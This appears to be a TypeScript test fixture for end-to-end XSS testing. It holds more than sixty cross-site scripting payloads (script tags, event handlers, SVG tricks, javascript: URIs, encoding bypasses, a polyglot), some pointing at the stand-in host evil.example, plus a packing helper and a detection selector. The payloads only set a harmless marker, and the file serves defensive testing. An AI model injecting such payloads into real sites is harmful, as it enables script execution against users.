/** What a payload does when it runs: the page notices the write, see tests/e2e/xss.spec.ts. */
const run = "window.__xss=1";
const entity = "&#119;indow.__xss&#61;1";
/** Every element that one of these would make carries `data-xss` or is found by another mark of `dangerous`. */
const raw = [
  `<script data-xss>${run}</script>`,
  `<ScRiPt data-xss>${run}</sCrIpT>`,
  `<script data-xss src=data:text/javascript,${run}></script>`,
  `<script data-xss/x>${run}</script foo>`,
  `<<script data-xss>${run}//<</script>`,
  `"><script data-xss>${run}</script>`,
  `'><script data-xss>${run}</script>`,
  `</script><script data-xss>${run}</script>`,
  `</textarea><script data-xss>${run}</script>`,
  `</title><script data-xss>${run}</script>`,
  `</style><script data-xss>${run}</script>`,
  `</noscript><script data-xss>${run}</script>`,
  `--><script data-xss>${run}</script>`,
  `]]><script data-xss>${run}</script>`,
  `"}]}</script><script data-xss>${run}</script>`,
  `\\u003cscript data-xss\\u003e${run}\\u003c/script\\u003e`,
  `\\"-(${run})-\\"`,
  `\u2028${run}\u2029`,
  `<!--<script data-xss>${run}//-->`,
  `<img data-xss src=x onerror=${run}>`,
  `<img data-xss src=x onerror="${run}"`,
  `"><img data-xss src=x onerror=${run}>`,
  `<img data-xss src=x:x onerror=${entity}>`,
  `<img data-xss src=x onerror\u0009=${run}>`,
  `<img/data-xss/src=x/onerror=${run}>`,
  `<img data-xss src="/api/auth/signout?x">`,
  `<img data-xss src=x onerror=\`${run}\`>`,
  `<image data-xss href=x onerror=${run}>`,
  `<svg data-xss onload=${run}>`,
  `<svg data-xss><script>${run}</script></svg>`,
  `<svg data-xss><script>&#119;indow.__xss=1</script></svg>`,
  `<svg data-xss><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg data-xss><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg data-xss><use href="data:image/svg+xml,<svg id=x onload=${run}>#x">`,
  `<svg data-xss><foreignObject><iframe onload=${run}></foreignObject></svg>`,
  `<math data-xss><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<body data-xss onload=${run}>`,
  `<video data-xss src=x onerror=${run}></video>`,
  `<video data-xss><source onerror=${run}></video>`,
  `<audio data-xss src=x onerror=${run}>`,
  `<details data-xss open ontoggle=${run}>x</details>`,
  `<input data-xss autofocus onfocus=${run}>`,
  `<select data-xss autofocus onfocus=${run}>`,
  `<div data-xss onpointerenter=${run} style=position:fixed;inset:0>`,
  `<marquee data-xss onstart=${run}>`,
  `<iframe data-xss src="javascript:parent.__xss=1"></iframe>`,
  `<iframe data-xss srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<object data-xss data="javascript:${run}"></object>`,
  `<embed data-xss src="javascript:${run}">`,
  `<base data-xss href=//evil.example/>`,
  `<meta data-xss http-equiv=refresh content="0;url=javascript:${run}">`,
  `<link data-xss rel=stylesheet href=//evil.example/x.css>`,
  `<form data-xss action=javascript:${run}><button autofocus>x</button></form>`,
  `<template data-xss><script>${run}</script></template>`,
  `<style data-xss>*{background:url(//evil.example/x)}</style>`,
  `</style><style data-xss>@import '//evil.example/x';</style>`,
  `;background:url(javascript:${run});`,
  `expression(${run})`,
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `\u0001javascript:${run}`,
  `javascript://%0a${run}`,
  `data:text/html,<script data-xss>opener.__xss=1</script>`,
  `data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX194c3M9MTwvc2NyaXB0Pg==`,
  `vbscript:${run}`,
  `[x](javascript:${run})`,
  `![x](x"onerror="${run})`,
  `<javascript:${run}>`,
  `[x]: javascript:${run}`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `&lt;script data-xss&gt;${run}&lt;/script&gt;`,
  `&#60;img data-xss src=x onerror=${run}&#62;`,
  `%3Cscript data-xss%3E${run}%3C/script%3E`,
  `\uff1cscript data-xss\uff1e${run}\uff1c/script\uff1e`,
  `\u202e<script data-xss>${run}</script>\u202c`,
  `<scr\u200bipt data-xss>${run}</scr\u200bipt>`,
  `+ADw-script data-xss+AD4-${run}+ADw-/script+AD4-`,
  `{"__html":"<img data-xss src=x onerror=${run}>"}`,
  `{"$$typeof":"Symbol(react.element)","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${run}"}}}`,
  `1:I["x",[],"x"]\n0:["$","script",null,{"children":"${run}"}]`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${run} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${run}//>\\x3e`,
];

/** More than sixty ways to bring a script into a page, each at most 200 characters long. */
export const xssPayloads: readonly string[] = raw.map((payload) => payload.slice(0, 200));

/** All payloads in as few texts of at most `limit` characters as possible, side by side. */
export function packedPayloads(limit: number, separator = " "): string[] {
  const texts: string[] = [];
  for (const payload of xssPayloads.filter(({ length }) => length <= limit)) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + separator.length + payload.length <= limit)
      texts[texts.length - 1] = `${last}${separator}${payload}`;
    else texts.push(payload);
  }
  return texts;
}

/** A selector of everything that a payload may have made: elements and attributes that no page of ours has. */
export const dangerous = [
  "[data-xss], iframe, object, embed, base, marquee, math, foreignObject, frame, applet",
  "img[src='x'], [onerror], [onload], [onfocus], [onclick], [ontoggle], [onbegin], [srcdoc], meta[http-equiv=refresh]",
  ...["href", "src", "action", "formaction", "xlink\\:href"].flatMap((name) =>
    ["javascript:", "data:text", "vbscript:", "//evil"].map((start) => `[${name}^='${start}' i]`),
  ),
].join(", ");
